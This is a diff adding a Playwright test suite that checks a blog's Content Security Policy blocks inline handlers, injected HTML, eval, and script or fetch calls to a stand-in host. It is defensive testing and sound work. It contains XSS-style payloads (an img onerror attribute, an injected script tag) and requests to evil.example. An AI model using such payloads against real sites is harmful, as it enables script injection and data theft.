@@ -1,0 +1,119 @@
+import type { Page } from '@playwright/test'
+import { expect } from './blog'
+import { openDesk, test } from './desk'
+
+/** What a page’s policy kept from it, as the browser says. */
+async function violations(page: Page, path: string): Promise<string[]> {
+  await page.addInitScript(() => {
+    Object.assign(window, { refused: [] })
+    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) => {
+      Reflect.get(window, 'refused').push(`${effectiveDirective} ${blockedURI} ${sample}`)
+    })
+  })
+  await page.goto(path, { waitUntil: 'networkidle' })
+  return page.evaluate(() => Reflect.get(window, 'refused'))
+}
+
+const deskPages = ['comments', 'blocks', 'stats', 'people', 'readers', 'account', 'settings', 'reports'].map((name) => `/desk/${name}`)
+const publicPages = [
+  ...['/', '/posts/how-a-thread-is-read', '/posts/what-happens-to-a-pasted-link', '/posts/put-it-on-vercel', '/docs/errors', '/privacy'],
+  ...[
+    '/posts/how-a-thread-is-read/comments/newest',
+    '/nothing',
+    '/invitations/none',
+    '/desk/nothing',
+    '/privacy/your-data',
+    '/comments/0',
+    '/privacy/your-data/none',
+    '/posts/none',
+    '/posts/how-a-thread-is-read/comments/0/reply',
+  ],
+]
+
+for (const path of [...deskPages, ...publicPages]) {
+  test(`the policy of ${path} refuses nothing that belongs to it`, async ({ page }) => {
+    expect(await violations(page, path)).toEqual([])
+  })
+}
+
+test('the desk’s scripts work under their nonce', async ({ blog, desk }) => {
+  await desk.add()
+  await openDesk(blog, `/desk/comments?search=${desk.word}`)
+  await blog.keyboard.press('?')
+  await expect(blog.locator('.desk-help')).toBeVisible()
+})
+
+for (const path of ['/desk/settings', '/posts/how-a-thread-is-read']) {
+  test(`on ${path} no handler in an attribute runs, no text becomes a page, and nothing is asked of elsewhere`, async ({ page }) => {
+    await violations(page, path)
+    const ran = await page.evaluate(async () => {
+      const attempts: Record<string, () => unknown> = {
+        handler: () => {
+          const button = document.createElement('button')
+          button.setAttribute('onclick', 'window.ran = true')
+          document.body.append(button)
+          button.click()
+          return Reflect.get(window, 'ran')
+        },
+        html: () => {
+          document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="window.ran = true">')
+          return true
+        },
+        // In its own time: what a test is run by may do what a page must not.
+        eval: () =>
+          new Promise((resolve) => {
+            setTimeout(() => {
+              try {
+                resolve(Function('return true')())
+              } catch {
+                resolve(false)
+              }
+            })
+          }),
+        elsewhere: () => fetch('https://evil.example/').then(() => true),
+        foreign: () =>
+          new Promise((resolve) => {
+            const script = document.createElement('script')
+            script.src = 'https://evil.example/x.js'
+            script.onload = () => resolve(true)
+            script.onerror = () => resolve(false)
+            document.body.append(script)
+          }),
+      }
+      const became: Record<string, boolean> = {}
+      for (const [name, attempt] of Object.entries(attempts)) {
+        try {
+          became[name] = (await attempt()) === true
+        } catch {
+          became[name] = false
+        }
+      }
+      return became
+    })
+    expect(ran).toEqual({ handler: false, html: false, eval: false, elsewhere: false, foreign: false })
+  })
+}
+
+test('on the desk an injected script does not run', async ({ page }) => {
+  await page.route('**/desk/settings', async (route) => {
+    const response = await route.fetch()
+    const body = (await response.text()).replace('</body>', '<script>window.injected = true</script></body>')
+    await route.fulfill({ response, body })
+  })
+  expect((await violations(page, '/desk/settings')).join()).toContain('script-src-elem inline')
+  expect(await page.evaluate(() => Reflect.get(window, 'injected'))).toBeUndefined()
+})
+
+test('what a browser refused is told at the desk, and forgotten there', async ({ page, desk }) => {
+  await violations(page, '/posts/how-a-thread-is-read')
+  const host = `${desk.word}.example`
+  await page.evaluate((there) => fetch(`https://${there}/`).catch(() => {}), host)
+  await expect.poll(async () => (await desk.sql('SELECT page FROM policy_reports WHERE blocked = $1', [`https://${host}`])).length).toBe(1)
+  await page.goto('/desk/reports')
+  const row = page.getByRole('listitem').filter({ hasText: host })
+  await expect(row).toContainText('connect-src')
+  await expect(row).toContainText('/posts/how-a-thread-is-read')
+  await page.getByRole('button', { name: 'Forget them all' }).click()
+  await expect(page.getByRole('status')).toContainText('The reports are gone.')
+  await expect(row).toHaveCount(0)
+})
